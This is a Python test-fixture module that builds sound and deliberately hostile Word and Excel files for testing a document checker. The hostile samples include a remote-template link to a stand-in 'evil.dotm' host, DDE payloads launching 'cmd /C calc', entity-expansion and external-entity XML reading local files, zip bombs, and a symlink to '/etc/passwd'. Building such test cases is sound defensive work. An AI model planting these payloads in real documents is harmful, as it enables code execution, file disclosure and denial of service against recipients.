"""Word and Excel files, sound and hostile, made part by part."""

import io
import stat
import struct
import zipfile

from openpyxl import Workbook

MAIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
STRICT_TEMPLATE = "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"
IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
CHUNK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = '<w:document xmlns:w="urn:w"><w:body/></w:document>'


def types(main: str = WORD) -> str:
    return f'<Types xmlns="urn:t"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'


def relation(kind: str, target: str, mode: str = "") -> str:
    outside = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="urn:r"><Relationship Id="r1" Type="{kind}" Target="{target}"{outside}/></Relationships>'
    )


def parts() -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": relation(MAIN, "word/document.xml"),
        "word/document.xml": BODY,
    }


def zipped(members: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def word(**more: str | bytes) -> bytes:
    """A Word file; `more` are parts beside its own, "__" in their names standing for "/" and "_dot_" for "."."""
    return zipped(parts() | {name.replace("__", "/").replace("_dot_", "."): body for name, body in more.items()})


def word_with(name: str, body: str | bytes) -> bytes:
    return zipped(parts() | {name: body})


def excel() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for number in range(50):
        sheet.append([number, "Demo Organisation"])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def with_macro_part() -> bytes:
    return word_with("word/vbaProject.bin", b"demo")


def with_macro_type() -> bytes:
    return word_with("[Content_Types].xml", types(MACRO_WORD))


def with_program_inside() -> bytes:
    return word_with("word/embeddings/oleObject1.bin", b"demo")


def with_template_from_elsewhere() -> bytes:
    return word_with("word/_rels/settings.xml.rels", relation(TEMPLATE, "https://example.org/evil.dotm", "External"))


def with_template_at(target: str, kind: str = TEMPLATE, mode: str = "External") -> bytes:
    return word_with("word/_rels/settings.xml.rels", relation(kind, target, mode))


def with_template_in_capitals() -> bytes:
    """Office reads names of parts in any case."""
    return word_with("word/_rels/settings.xml.RELS", relation(TEMPLATE, "https://example.org/evil.dotm", "External"))


def with_picture_at(target: str) -> bytes:
    return word_with("word/_rels/document.xml.rels", relation(IMAGE, target, "External"))


def with_a_page_inside() -> bytes:
    return word_with("word/_rels/document.xml.rels", relation(CHUNK, "page.html"))


def with_body(body: str, name: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    )
    return word_with(name, text.encode(encoding))


def with_field(*pieces: str) -> bytes:
    """A field whose code is cut into pieces, each in a run of its own; a nested field stands between them."""
    nested = '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/>'
    code = nested.join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return with_body(f'<w:fldChar w:fldCharType="begin"/>{code}<w:fldChar w:fldCharType="end"/>')


def with_simple_field(code: str) -> bytes:
    return with_body(f'<w:fldSimple w:instr="{code}"/>')


def with_field_in_a_part_of_another_name() -> bytes:
    """A part that the file declares to be the document, under an ending that says nothing."""
    declared = types().replace("/word/document.xml", "/word/document.dat")
    field = "<w:d xmlns:w='urn:w'><w:instrText>DDE excel x</w:instrText></w:d>"
    return zipped(parts() | {"[Content_Types].xml": declared, "word/document.dat": field})


def with_link_to_a_program() -> bytes:
    link = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    with zipfile.ZipFile(io.BytesIO(excel())) as sound:
        members: dict[str, str | bytes] = {name: sound.read(name) for name in sound.namelist()}
    return zipped(members | {"xl/externalLinks/externalLink1.xml": link})


def with_two_parts_of_one_name() -> bytes:
    return word_with("WORD/document.xml", BODY)


def with_a_link_to_follow() -> bytes:
    return word_with("word/_rels/document.xml.rels", relation(LINK, "https://example.org/", "External"))


def with_laughing_entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return word_with("word/document.xml", f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l8;</d>')


def with_entity_from_disk() -> bytes:
    return word_with("word/document.xml", '<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/hostname">]><d>&f;</d>')


def with_broken_xml() -> bytes:
    return word_with("word/document.xml", "<w:document>")


def that_blows_up() -> bytes:
    """Thirty megabytes of nothing in some thirty kilobytes."""
    return word_with("word/media/zero.xml", b"\0" * (30 * 1024 * 1024))


def that_blows_up_beyond_all() -> bytes:
    """More than 200 MB in parts that each keep a modest ratio is told by the sum, before anything is unpacked."""
    archive = bytearray(zipped(parts() | {f"word/media/{n}.bin": bytes(1000) for n in range(3)}))
    at = 0
    while (at := archive.find(b"PK\x01\x02", at)) >= 0:
        archive[at + 24 : at + 28] = struct.pack("<I", 150 * 1024 * 1024)
        at += 4
    return bytes(archive)


def of_too_many_parts(count: int) -> bytes:
    return zipped(parts() | {f"word/{number}": b"" for number in range(count)}, zipfile.ZIP_STORED)


def that_hides_its_many_parts() -> bytes:
    """The count in the directory's end says 3, the directory itself holds a hundred thousand."""
    archive = bytearray(of_too_many_parts(100_000))
    at = archive.rfind(b"PK\x05\x06")
    archive[at + 8 : at + 12] = struct.pack("<HH", 3, 3)
    return bytes(archive)


def that_lies_about_a_size() -> bytes:
    """A part that unpacks to more than the directory says."""
    archive = bytearray(word_with("word/media/large.xml", b"<a/>" * 10_000))
    at = archive.rfind(b"PK\x01\x02")
    archive[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(archive)


def with_link_inside() -> bytes:
    file = io.BytesIO(zipped(parts()))
    link = zipfile.ZipInfo("word/link")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def with_password_on_a_part() -> bytes:
    archive = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = archive.find(mark)
        archive[at + offset] |= 1
    return bytes(archive)


def protected() -> bytes:
    """What Word saves with a password is no zip but a compound file of old."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


def cut_off() -> bytes:
    content = word()
    return content[: len(content) // 2]
